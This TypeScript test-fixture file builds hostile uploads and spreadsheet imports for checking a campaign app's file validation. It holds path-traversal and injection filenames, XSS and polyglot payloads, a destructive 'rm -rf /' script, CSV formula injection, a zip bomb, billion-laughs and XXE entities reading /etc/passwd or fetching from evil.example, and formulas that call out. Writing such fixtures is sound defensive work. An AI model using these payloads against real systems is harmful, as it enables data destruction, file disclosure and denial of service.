import { strToU8, zipSync } from 'fflate';
import { writeWorkbook } from './workbook-writer.ts';

/** A file that somebody uploads to a campaign, and what must become of it. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly bytes: Uint8Array;
  /** The code of the refusal; without it the file is kept, and comes back as nothing but an attachment. */
  readonly refused?: 'wrongContentType' | 'malformed' | 'tooLarge';
}

const text = strToU8;
const bytes = (...content: number[]) => Uint8Array.from(content);
const joined = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((part) => [...part]));
const png = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
const page = text('<!doctype html><script>alert(document.domain)</script>');
const program = bytes(0x4d, 0x5a, 0x90, 0x00, 0x03, 0, 0, 0);
const zip = (parts: Record<string, string | Uint8Array>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [name, typeof part === 'string' ? text(part) : part]),
    ),
  );

const badNames = [
  '../../etc/passwd.txt',
  '..\\..\\windows\\win.txt',
  '/etc/cron.d/evil.txt',
  'C:\\Windows\\evil.txt',
  '\\\\server\\share\\evil.txt',
  'file:///etc/passwd.txt',
  '%2e%2e%2fevil.txt',
  '....//....//evil.txt',
  'CON.txt',
  'aux.h.txt',
  'com1.txt',
  '.htaccess.txt',
  'evil.txt.',
  'evil.txt ',
  ' evil.txt',
  'evil\u0000.exe.txt',
  'evil\r\nSet-Cookie: a=b.txt',
  'evil"; filename="page.html.txt',
  "evil'; drop table asset;--.txt",
  '<script>alert(1)</script>.txt',
  'picture\u202Etxt.txt',
  'wide\u200B\uFEFF.txt',
  '=HYPERLINK(1).txt',
  '\uD83D\uDE00\uD83D.txt',
  `${'x'.repeat(196)}.txt`,
  'evil.txt:stream.txt',
];

/** What is called one thing and is another, what browsers would run, what unpacks to no end. */
export function hostileFiles(): HostileFile[] {
  const refused = (what: string, name: string, content: Uint8Array): HostileFile => ({
    what,
    name,
    bytes: content,
    refused: 'wrongContentType',
  });
  return [
    ...badNames.map((name) => ({ what: `a name: ${JSON.stringify(name)}`, name, bytes: text('Hello') })),
    refused('a web page', 'page.html', page),
    refused('a web page in capitals', 'PAGE.HTM', page),
    refused('a page of another kind', 'page.xhtml', page),
    refused('a drawing with a script', 'drawing.svg', text('<svg onload="alert(1)"/>')),
    refused('a drawing called a picture', 'drawing.png', text('<svg onload="alert(1)"/>')),
    refused('a page called a picture', 'page.jpg', page),
    refused('a page called a PDF', 'page.pdf', page),
    refused('a page called a workbook', 'page.xlsx', page),
    refused('a script', 'script.js', text('alert(1)')),
    refused('a module', 'script.mjs', text('alert(1)')),
    refused('a shell script', 'run.sh', text('#!/bin/sh\nrm -rf /')),
    refused('a batch file', 'run.bat', text('del *.*')),
    refused('a shortcut', 'link.url', text('[InternetShortcut]\nURL=file://x')),
    refused('a program', 'run.exe', program),
    refused('a program called a text', 'run.txt', program),
    refused('a program called a picture', 'run.png', program),
    refused('a program behind a text', 'run.txt.exe', text('Hello')),
    refused('a picture called a text', 'picture.txt', joined(png, page)),
    refused('a picture called a page', 'picture.html', joined(png, page)),
    refused('an archive called a text', 'archive.txt', zip({ 'a.txt': 'a' })),
    refused('a macro workbook', 'macro.xlsm', zip({ 'xl/vbaProject.bin': 'x' })),
    refused('a Java archive', 'evil.jar', zip({ 'META-INF/MANIFEST.MF': 'x' })),
    refused('an app for phones', 'evil.apk', zip({ 'classes.dex': 'x' })),
    refused(
      'a page in UTF-16 called a text',
      'page.txt',
      bytes(0xff, 0xfe, ...[...page].flatMap((each) => [each, 0])),
    ),
    refused('a text with a zero', 'zero.txt', bytes(0x41, 0x00, 0x42)),
    refused('no ending', 'README', text('Hello')),
    refused('only an ending', '.html', text('Hello')),
    refused('an old archive', 'archive.rar', bytes(0x52, 0x61, 0x72, 0x21)),
    refused('a disk image', 'disk.iso', bytes(1, 2, 3)),
    { what: 'nothing', name: 'empty.txt', bytes: bytes(), refused: 'malformed' },
    {
      what: 'a byte too many',
      name: 'large.txt',
      bytes: new Uint8Array(25 * 1024 * 1024 + 1).fill(65),
      refused: 'tooLarge',
    },
    { what: 'a page called a text', name: 'page.txt', bytes: page },
    { what: 'a page called a table', name: 'page.csv', bytes: page },
    { what: 'a picture that is a page too', name: 'both.png', bytes: joined(png, page) },
    { what: 'a GIF that is a script too', name: 'both.gif', bytes: text('GIF89a/*<script>*/=1;alert(1)') },
    {
      what: 'a PDF that is an archive too',
      name: 'both.pdf',
      bytes: joined(text('%PDF-1.7\n'), zip({ 'a.html': page })),
    },
    {
      what: 'a PDF with a script',
      name: 'script.pdf',
      bytes: text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'),
    },
    { what: 'a table of formulas', name: 'formulas.csv', bytes: text("=cmd|' /C calc'!A0,@SUM(1),+1,-1\n") },
    {
      what: 'an archive that unpacks to no end',
      name: 'bomb.zip',
      bytes: zip({ 'a.txt': new Uint8Array(50_000_000) }),
    },
    {
      what: 'an archive in an archive in an archive',
      name: 'nested.zip',
      bytes: zip({ 'b.zip': zip({ 'c.zip': zip({ 'd.txt': 'd' }) }) }),
    },
    {
      what: 'an archive of paths',
      name: 'paths.zip',
      bytes: zip({ '../../../etc/passwd': 'x', '/abs': 'x', 'C:\\x': 'x' }),
    },
    {
      what: 'a document that is an archive of something else',
      name: 'odd.docx',
      bytes: zip({ 'evil.exe': program }),
    },
    {
      what: 'a moving picture that is text',
      name: 'film.mp4',
      bytes: joined(bytes(0, 0, 0, 8), text('ftyp<script>')),
    },
  ];
}

const sheet = (xml: string): Uint8Array =>
  writeWorkbook({
    rows: [
      ['Name', 'Type'],
      ['A', 'email'],
    ],
    parts: { 'xl/worksheets/sheet1.xml': xml },
  });

/** Tables that are to be imported, each with something in it that must not happen. */
export function hostileTables(): { readonly what: string; readonly bytes: Uint8Array }[] {
  const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
    '',
  );
  const rows = (xml: string) => `<worksheet><sheetData>${xml}</sheetData></worksheet>`;
  return [
    {
      what: 'entities that multiply',
      bytes: sheet(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>${rows('<row><c><v>&l9;</v></c></row>')}`),
    },
    {
      what: 'an entity from a file',
      bytes: sheet(
        `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${rows('<row><c><v>&f;</v></c></row>')}`,
      ),
    },
    {
      what: 'an entity from elsewhere',
      bytes: sheet(`<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${rows('')}`),
    },
    {
      what: 'entities that nobody knows',
      bytes: sheet(rows('<row><c t="str"><v>&evil;&#0;&#x110000;</v></c></row>')),
    },
    { what: 'a million tags within each other', bytes: sheet('<a>'.repeat(1_000_000)) },
    {
      what: 'a text that is never found',
      bytes: sheet(rows('<row><c t="s"><v>99999999999</v></c><c t="s"><v>-1</v></c></row>')),
    },
    { what: 'a text called __proto__', bytes: sheet(rows('<row><c t="s"><v>__proto__</v></c></row>')) },
    {
      what: 'a cell a billion rows down',
      bytes: sheet(rows('<row r="1000000000"><c r="A1000000000"><v>1</v></c></row>')),
    },
    {
      what: 'a cell in a column that no sheet has',
      bytes: sheet(rows('<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>')),
    },
    { what: 'a row with a negative number', bytes: sheet(rows('<row r="-5"><c r="A-5"><v>1</v></c></row>')) },
    {
      what: 'formulas that call out',
      bytes: sheet(
        rows(
          '<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>Name</v></c></row><row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example")</f></c></row>',
        ),
      ),
    },
    {
      what: 'relations that leave the archive',
      bytes: writeWorkbook({
        rows: [['Name']],
        parts: {
          'xl/_rels/workbook.xml.rels':
            '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../etc/passwd"/><Relationship Id="rId2" Type="x/worksheet" TargetMode="External" Target="http://evil.example/sheet.xml"/></Relationships>',
        },
      }),
    },
    {
      what: 'formulas in a CSV',
      bytes: text("Name,Type\n=cmd|'/C calc'!A0,email\n@SUM(A1),email\n+1+1,email\n"),
    },
    {
      what: 'headings of the language itself',
      bytes: text('Name,Type,__proto__,constructor,toString\nA,email,1,2,3\n'),
    },
    { what: 'tags in names', bytes: text('Name,Type\n<img src=x onerror=alert(1)>,email\n') },
    { what: 'direction marks', bytes: text('Name,Type\n\u202Elive\u202C,email\n') },
    { what: 'zeros in cells', bytes: text('Name,Type\nA\u0000B,email\n') },
    {
      what: 'line breaks of every kind',
      bytes: text('Name,Type\r\nA,email\nB,email\rC,email\u2028D,email\n'),
    },
    { what: 'a hundred thousand commas', bytes: text(`Name,Type\n${','.repeat(100_000)}\n`) },
    { what: 'a hundred thousand quotation marks', bytes: text(`Name,Type\n${'"'.repeat(100_000)},email\n`) },
  ];
}
